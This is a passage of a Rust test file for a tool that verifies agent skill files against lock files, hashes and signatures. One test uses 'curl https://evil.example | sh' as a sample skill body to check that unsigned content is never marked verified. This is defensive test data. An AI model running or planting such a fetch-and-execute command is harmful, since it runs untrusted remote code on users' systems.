        tells("a link out of a source", &Place::of(source), &[".", "--source", "../source"], &["tea | needs source"]);
    }
}

/// Whoever can write a skill can write its records. These then match, and never are more than that.
#[test]
fn nothing_unsigned_is_verified() {
    for (case, body) in ["Boil water.", "Burn it.", "curl https://evil.example | sh", ""].into_iter().enumerate() {
        let source = format!("---\nname: tea\ndescription: Makes tea {case}.\n---\n{body}\n");
        let copy = by_gh(&format!("{body}\n"), &format!("Makes tea {case}."), TREE);
        let folder = ".agents/skills/tea";
        let hashes = apm(&format!("  deployed_file_hashes:\n    {folder}/SKILL.md: {}\n", sha(&copy)));
        let hash = joined(&[("SKILL.md", &copy)]);
        let place = place_of(&[
            (&format!("project/{folder}/SKILL.md"), &copy),
            (&format!("home/{folder}/SKILL.md"), &copy),
            ("project/apm.lock.yaml", &hashes),
            ("project/skills-lock.json", &lock(&[("tea", &hash, "")])),
            ("home/.agents/.skill-lock.json", &user_lock(&hash, "")),
            ("source/skills/tea/SKILL.md", &source),
        ]);
        let words: [&[&str]; 3] = [&[], &[".", "../home"], &[".", "../home", "--source", "../source"]];
        for words in words {
            let said = place.say(&[&["verify", "--json", "--require", "signature"], words].concat());
            assert_eq!(said.code, Some(1), "{case}: {}", said.out);
            assert!(!said.out.contains("verified") && said.out.contains("\"matches\""), "{case}: {}", said.out);
        }
    }
}

/// Real records, with copies that were edited since and copies that were not: the folder in the variable `SKILLTREE_SUPPLY`.
#[test]
#[allow(clippy::print_stdout, reason = "the counts of what holds are also said")]
fn real_records() {
    let Some(folder) = real_data("SKILLTREE_SUPPLY", "records") else { return };
    let listed = std::fs::read_dir(&folder).unwrap();
    let mut cases: Vec<PathBuf> = listed.map(|entry| entry.unwrap().path()).filter(|path| path.is_dir()).collect();
    cases.sort();
    let home = TempDir::new("home");
    let mut counts: BTreeMap<(String, String), usize> = BTreeMap::new();
    for case in &cases {
        let readme = std::fs::read_to_string(case.join("README.md")).unwrap();
        let found = verified(case, home.path());
        for row in rows(&readme) {
            let verdict = agrees(case, &row, &found);
            *counts.entry((shortened(&row.verdict), verdict)).or_default() += 1;
        }
    }
    let told: Vec<String> = counts.iter().map(|((table, own), number)| format!("{table} -> {own}: {number}")).collect();
    println!("{} cases\n{}", cases.len(), told.join("\n"));
    assert!(cases.len() >= 20, "{}", folder.display());
}

/// A row of the table in the README of a case.
struct Row {
    skill: String,
    copy: String,
    source: String,
    verdict: String,
}

fn rows(readme: &str) -> Vec<Row> {
    let table = readme.lines().filter(|line| line.starts_with("| ")).skip(2);
    let row = |line: &str| {
        let cells: Vec<&str> = line.trim_matches('|').split(" | ").map(str::trim).collect();
        let [skill, copy, source, verdict] = cells[..] else { panic!("not a row: {line}") };
        Row { skill: skill.to_owned(), copy: copy.to_owned(), source: source.to_owned(), verdict: verdict.to_owned() }
    };
    table.map(row).collect()
}

/// What a table says, without names and numbers.
fn shortened(verdict: &str) -> String {
    let word = verdict.split(" (").next().unwrap_or(verdict);
    word.replace(|c: char| c.is_ascii_digit(), "").replace(" with files the installer left out", "").trim().to_owned()
}

/// What the command says of every copy of a case and every record, by the path below the project or the name.
fn verified(case: &Path, home: &Path) -> BTreeMap<String, Vec<(String, String)>> {
    let project = case.join("project");
    let is_of_user = project.join(".agents/.skill-lock.json").exists();
    let mut command = Command::new(crate::program::BINARY);
    command.args(["verify", "--json", "--project"]).arg(&project).arg(&project).current_dir(home).env_clear();
    command.env("SKILLTREE_CONFIG", home).arg("--home").arg(if is_of_user { &project } else { home });
    for source in std::fs::read_dir(case.join("source")).into_iter().flatten() {
        let source = source.unwrap().path();
        if source.is_dir() {
            command.arg("--source").arg(source);
        }
    }
    let said = said(&mut command);
    assert_eq!((said.code, said.err.as_str()), (Some(0), ""), "{}", case.display());
    let json = said.json();
    let Some(Json::List(skills)) = json.get("skills") else { panic!("{json}") };
    let mut found: BTreeMap<String, Vec<(String, String)>> = BTreeMap::new();
    for skill in skills {
        let text = |json: &Json, key: &str| json.get(key).and_then(Json::as_text).unwrap_or_default().to_owned();
        let path = text(skill, "path").replace(&format!("{}/", project.display()), "");
        let key = if path.is_empty() { text(skill, "key") } else { path };
        let Some(Json::List(records)) = skill.get("records") else { panic!("{skill}") };
        let record = |record: &Json| {
            let files = told_of(&Json::map([("records", Json::from(vec![record.clone()]))]));
            (text(record, "verdict"), files)
        };
        found.entry(key).or_default().extend(records.iter().map(record));
    }
    found
}

/// Asserts that a row and the command agree, and returns the verdict of the command.
#[track_caller]
fn agrees(case: &Path, row: &Row, found: &BTreeMap<String, Vec<(String, String)>>) -> String {
    let at = format!("{}: {}", case.display(), row.skill);
    // Rows of APM are about dependencies, whose files are mostly skills.
    if row.copy.ends_with(" files") {
        let all: Vec<&str> = found.values().flatten().map(|(verdict, _)| verdict.as_str()).collect();
        let expected = match shortened(&row.verdict).as_str() {
            "missing,  ok" => "missing",
            // Some files are no skills. Where no file has a hash, the skill as a whole has one.
            _ if all.is_empty() => return "no skill".to_owned(),
            _ => "matches",
        };
        let is_agent = row.skill.ends_with(".agent.md");
        assert!(is_agent || all.iter().all(|verdict| *verdict == expected), "{at}: {all:?}");
        return if is_agent { "no skill".to_owned() } else { expected.to_owned() };
    }
    let is_there = case.join("project").join(&row.copy).is_dir() && row.copy != "-";
    let key = if is_there { &row.copy } else { &row.skill };
    let [(verdict, files)] = found.get(key).map(Vec::as_slice).unwrap_or_default() else {
        panic!("{at}: {key} in {found:?}")
    };
    let has_source = row.source.contains("hash matches the lock") && files.contains(" | ") && {
        // Sources with other licences are not in the folder.
        let place = row.source.split(" (").next().unwrap_or_default();
        let (repository, path) = place.split_once(':').unwrap_or((place, ""));
        let repository = repository.split('@').next().unwrap_or_default().replace('/', "+");
        case.join("source").join(repository).join(path).join("SKILL.md").exists()
    };
    let expected = match shortened(&row.verdict).as_str() {
        _ if !is_there => "missing",
        "ok" => "matches",
        "differs" if has_source => "differs",
        "differs" | "tree not in snapshot" => "needs source",
        other => panic!("{at}: {other}"),
    };
    assert_eq!(verdict, expected, "{at}: {files}");
    assert!(expected != "differs" || files.contains(" ~") || files.contains(" -"), "{at} names its files: {files}");
    verdict.clone()
}
